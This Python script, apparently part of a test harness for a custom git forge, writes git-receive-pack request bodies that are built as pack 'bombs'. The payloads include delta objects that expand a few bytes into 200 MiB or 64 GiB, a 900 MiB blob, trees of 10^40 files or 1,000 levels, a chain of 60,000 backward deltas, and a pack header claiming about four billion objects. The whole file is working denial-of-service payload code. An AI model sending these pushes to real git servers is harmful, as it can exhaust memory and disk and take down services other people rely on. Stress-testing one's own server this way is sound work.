"""Pushes that are small and want to be large: bombs.py COPY REF STORE KIND >BODY. COPY is a clone of the ledger, REF the
village's own log, STORE a copy of its store, whose node signs where a signature is asked for. What is written is the body
of a request to git-receive-pack."""
import hashlib
import os
import struct
import sys
import zlib

import forge

COPY, REF, STORE, KIND = sys.argv[1:]
MIB = 1 << 20
TIP = forge.git(COPY, "rev-parse", REF).decode().strip()
COMMIT, TREE, BLOB, REF_DELTA = 1, 2, 3, 7


def oid(kind, data):
    return hashlib.sha1(b"%s %d\0" % (kind, len(data)) + data).digest()


def entry(kind, size, data, before=b""):
    """One object of a pack (gitformat-pack(5))."""
    head, size = bytearray([kind << 4 | size & 15]), size >> 4
    while size:
        head[-1] |= 128
        head.append(size & 127)
        size >>= 7
    return bytes(head) + before + zlib.compress(data, 9)


def varint(n):
    out = bytearray()
    while True:
        out.append(n & 127 | (128 if n > 127 else 0))
        n >>= 7
        if not n:
            return bytes(out)


def pack(*entries):
    data = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return data + hashlib.sha1(data).digest()


def body(new, data):
    line = f"{TIP} {new} {REF}".encode() + b"\0report-status"
    return b"%04x" % (len(line) + 4) + line + b"0000" + data


def commit_of(tree):
    """With the node's own signature, on top of what is there."""
    key = os.path.abspath("bomber.key")
    node = forge.Store(STORE).node()
    node.ssh_file(key)
    sign = ("-c", "gpg.format=ssh", "-c", f"user.signingkey={key}")
    env = {f"GIT_{who}_{what}": value for who in ("AUTHOR", "COMMITTER") for what, value in (("NAME", "yizhan"), ("EMAIL", f"{node.hex[:16]}@yizhan.invalid"))}
    return forge.git(COPY, *sign, "commit-tree", "-S", "-p", TIP, tree, data=b"records\n", env=env).decode().strip()


def nested(width, depth):
    """A tree of width**depth files."""
    at = forge.git(COPY, "hash-object", "-w", "--stdin", data=b"x").decode().strip()
    mode, kind = "100644", "blob"
    for _ in range(depth):
        lines = "".join(f"{mode} {kind} {at}\t{i:07d}\n" for i in range(width))
        at = forge.git(COPY, "mktree", data=lines.encode()).decode().strip()
        mode, kind = "040000", "tree"
    return at


def pushed(tree):
    """As git packs it."""
    new = commit_of(tree)
    return body(new, forge.git(COPY, "pack-objects", "-q", "--stdout", "--revs", data=f"{new}\n^{TIP}\n".encode()))


def delta(size):
    """An object of that size out of a few bytes: the same 16 MiB over and over."""
    base = bytes(16 * MIB - 1)
    copies, rest = divmod(size, len(base))
    ops = (b"\xf0" + struct.pack("<I", len(base))[:3]) * copies + (b"\xf0" + struct.pack("<I", rest)[:3] if rest else b"")
    data = varint(len(base)) + varint(size) + ops
    whole = oid(b"blob", bytes(size)) if size < 1 << 30 else b"\1" * 20
    tree = b"100644 x\0" + whole
    text = b"tree %s\nparent %s\nauthor x <x> 1 +0000\ncommitter x <x> 1 +0000\n\nx\n" % (oid(b"tree", tree).hex().encode(), TIP.encode())
    return body(oid(b"commit", text).hex(), pack(entry(BLOB, len(base), base), entry(REF_DELTA, len(data), data, oid(b"blob", base)),
                                                 entry(TREE, len(tree), tree), entry(COMMIT, len(text), text)))


def backwards(n):
    """Deltas each of which is of what the next makes; of the last the base is there. As the tree of a commit."""
    said = [b"%08d" % i for i in range(n + 1)]
    names = [oid(b"blob", data) for data in said]
    deltas = [entry(REF_DELTA, 11, varint(8) + varint(8) + b"\x08" + said[i], names[i + 1]) for i in range(n)]
    tree = b"100644 x\0" + names[0]
    text = b"tree %s\nparent %s\nauthor x <x> 1 +0000\ncommitter x <x> 1 +0000\n\nx\n" % (oid(b"tree", tree).hex().encode(), TIP.encode())
    return body(oid(b"commit", text).hex(), pack(entry(TREE, len(tree), tree), entry(COMMIT, len(text), text), *deltas, entry(BLOB, 8, said[n])))


KINDS = {
    "deltas backwards": lambda: backwards(60000),
    "delta of 200 MiB": lambda: delta(200 * MIB),
    "delta of 64 GiB": lambda: delta(64 << 30),
    "blob of 900 MiB": lambda: body("1" * 40, pack(entry(BLOB, 900 * MIB, bytes(900 * MIB)))),
    "tree of 10^40 files": lambda: pushed(nested(10, 40)),
    "tree of 300,000 files": lambda: pushed(nested(300000, 1)),
    "tree of 1,000 levels": lambda: pushed(nested(1, 1000)),
    "objects without number": lambda: body("1" * 40, b"PACK" + struct.pack(">II", 2, 0xFFFFFFFF) + entry(BLOB, 1, b"x") * MIB),
}
sys.stdout.buffer.write(KINDS[KIND]())
